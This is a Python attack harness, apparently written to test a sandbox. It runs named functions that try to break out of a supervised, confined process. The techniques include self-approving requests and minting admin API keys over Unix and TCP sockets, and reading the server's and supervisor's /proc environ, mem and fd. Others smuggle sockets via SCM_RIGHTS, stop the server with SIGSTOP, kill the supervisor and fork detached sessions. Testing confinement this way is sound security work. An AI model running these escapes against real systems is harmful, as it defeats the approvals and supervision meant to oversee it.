"""The program of a tool that attacks. It reads {name: arguments} on stdin, tries each of these attacks and prints the results."""
import array, ctypes, http.client, json, os, signal, socket, subprocess, sys, threading, time

def parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])

SUPERVISOR = parent(os.getpid())
SERVER = parent(SUPERVISOR)

def state_of(thread):
    try:
        return open(thread + "/stat").read().rsplit(")", 1)[1].split()[0]
    except FileNotFoundError:
        return "X"

def stop_server():
    """SIGSTOP is delivered to one thread at a time: until all have stopped, one of them may still act."""
    os.kill(SERVER, signal.SIGSTOP)
    threads = f"/proc/{SERVER}/task/"
    while not all(state_of(threads + thread) in "TX" for thread in os.listdir(threads)):
        time.sleep(0.001)

class Unix(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost", timeout=20)
        self.path = path
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(20)
        self.sock.connect(self.path)

def send_request(connection, method, path, body=None):
    connection.request(method, path, None if body is None else json.dumps(body))
    answer = connection.getresponse()
    return [answer.status, answer.read().decode()[:1000]]

def on_socket(path, decision):
    return {"approve": send_request(Unix(path), "POST", "/api/approvals/" + decision, {"decision": "approve"}),
            "key": send_request(Unix(path), "POST", "/api/keys", {"role": "admin"}),
            "jobs": send_request(Unix(path), "GET", "/api/jobs")}

def on_tcp(address, decision="none"):
    return {"approve": send_request(http.client.HTTPConnection(address, timeout=20), "POST", "/api/approvals/" + decision,
                           {"decision": "approve"}),
            "key": send_request(http.client.HTTPConnection(address, timeout=20), "POST", "/api/keys", {"role": "admin"}),
            "jobs": send_request(http.client.HTTPConnection(address, timeout=20), "GET", "/api/jobs")}

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_FILES = 0x400
EXIT_OF_A_THREAD = {"x86_64": 60}.get(os.uname().machine, 93)

def on_tcp_from_hidden_thread(address):
    """Sends requests from a socket that only one thread has open."""
    found = {}
    def work():
        found["unshared"] = LIBC.unshare(CLONE_FILES)
        found.update(on_tcp(address))
    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    return found

def after_the_main_thread(address, out):
    """Sends requests from a process whose main thread has exited."""
    if os.fork() == 0:
        main = os.getpid()
        def work():
            while open(f"/proc/{main}/stat").read().rsplit(")", 1)[1].split()[0] != "Z":
                time.sleep(0.01)
            try:
                found = on_tcp(address)
            except Exception as error:
                found = {"error": repr(error)}
            with open(out + ".new", "w") as file:
                json.dump(found, file)
            os.rename(out + ".new", out)
            os._exit(0)
        threading.Thread(target=work).start()
        LIBC.syscall(EXIT_OF_A_THREAD, 0)
    while not os.path.exists(out):
        time.sleep(0.02)
    return json.load(open(out))

def in_flight(address):
    """Sends a request from a socket that is in a message of this process to itself, and open in no process."""
    host, port = address.split(":")
    here, there = socket.socketpair()
    stop_server()  # the kernel connects, and the server checks when the socket is in the message
    with socket.create_connection((host, int(port)), 20) as requester:
        here.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [requester.fileno()]))])
    os.kill(SERVER, signal.SIGCONT)
    time.sleep(1)
    _, ancillary, _, _ = there.recvmsg(1, socket.CMSG_SPACE(4))
    with socket.socket(fileno=array.array("i", ancillary[0][2])[0]) as requester:
        requester.settimeout(20)
        requester.sendall(b"GET /api/jobs HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        reply = b""
        while part := requester.recv(65536):
            reply += part
    head, body = reply.decode().split("\r\n\r\n", 1)
    return {"jobs": [int(head.split()[1]), body]}

def read(path):
    try:
        if path.endswith("/fd"):
            return "read: " + ",".join(os.readlink(path + "/" + name) for name in os.listdir(path))
        with open(path, "rb") as file:
            if path.endswith("/mem"):
                return "opened"
            return "read: " + file.read(100_000).decode(errors="replace")
    except OSError as error:
        return "refused: " + error.strerror

def of_processes():
    found = {}
    for who, pid in (("server", SERVER), ("supervisor", SUPERVISOR)):
        for name in ("environ", "mem", "fd"):
            found[who + "/" + name] = read(f"/proc/{pid}/{name}")
    return found

def commands(bin, store, decision):
    found = {}
    for name, words in (("key", ["keys", "create", "--role", "admin"]), ("approve", ["approve", decision]),
                        ("jobs", ["jobs"])):
        done = subprocess.run([bin, *words, "--store", store], capture_output=True, text=True, timeout=60)
        found[name] = [done.returncode, done.stdout + done.stderr]
    return found

def files():
    return sorted(int(name) for name in os.listdir("/proc/self/fd"))

def open_files(*paths):
    return {path: read(path) for path in paths}

def confined(address):
    found = {"uid": os.getuid()}
    host, port = address.split(":")
    try:
        socket.create_connection((host, int(port)), 5).close()
        found["tcp"] = "connected"
    except OSError as error:
        found["tcp"] = "refused: " + str(error)
    children = []
    try:
        for _ in range(12):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children.append(pid)
    except OSError:
        pass
    found["processes"] = len(children)
    for pid in children:
        os.kill(pid, 9)
    status = open("/proc/self/status").read()
    found["capabilities"] = int(status.split("CapEff:")[1].split()[0], 16)
    return found

def variables():
    return sorted(os.environ)

def detached(path, out):
    """Sends a request from a process without its session, its parents and its environment."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ.clear()
            time.sleep(0.2)
            try:
                reply = send_request(Unix(path), "POST", "/api/keys", {"role": "admin"})
            except OSError as error:
                reply = str(error)
            with open(out + ".new", "w") as file:
                json.dump(reply, file)
            os.rename(out + ".new", out)
        os._exit(0)
    while not os.path.exists(out):
        time.sleep(0.02)
    return json.load(open(out))

def kill_supervisor():
    found = {}
    for who, pid in (("supervisor", SUPERVISOR), ("server", SERVER)):
        try:
            os.kill(pid, 0)
            found[who] = "signalled"
        except OSError as error:
            found[who] = "refused: " + error.strerror
    return found

def send_after_supervisor(path, out, here):
    """Kills its supervisor, then sends a request."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ.clear()
            with open(here + ".new", "w") as file:
                print(os.getpid(), file=file)
            os.rename(here + ".new", here)
            while parent(os.getpid()) == SUPERVISOR:
                pass
            reply = send_request(Unix(path), "POST", "/api/keys", {"role": "admin"})
            with open(out + ".new", "w") as file:
                json.dump(reply, file)
            os.rename(out + ".new", out)
            time.sleep(60)
        os._exit(0)
    while not os.path.exists(here):
        time.sleep(0.01)
    os.kill(SUPERVISOR, signal.SIGKILL)
    time.sleep(60)

def send_to_other_server(path, address, out):
    """Kills its supervisor while its server is stopped, then sends requests to another server."""
    if os.fork() == 0:
        os.setsid()
        stop_server()
        os.kill(SUPERVISOR, signal.SIGKILL)
        while parent(os.getpid()) != SERVER:
            time.sleep(0.01)
        try:
            found = {"socket": send_request(Unix(path), "POST", "/api/keys", {"role": "admin"}), **on_tcp(address)}
        except Exception as error:
            found = {"error": [0, repr(error)]}
        with open(out + ".new", "w") as file:
            json.dump(found, file)
        os.rename(out + ".new", out)
        os.kill(SERVER, signal.SIGCONT)
    time.sleep(60)

wanted = json.load(sys.stdin)
print(json.dumps({name: globals()[name](*words) for name, words in wanted.items()}))
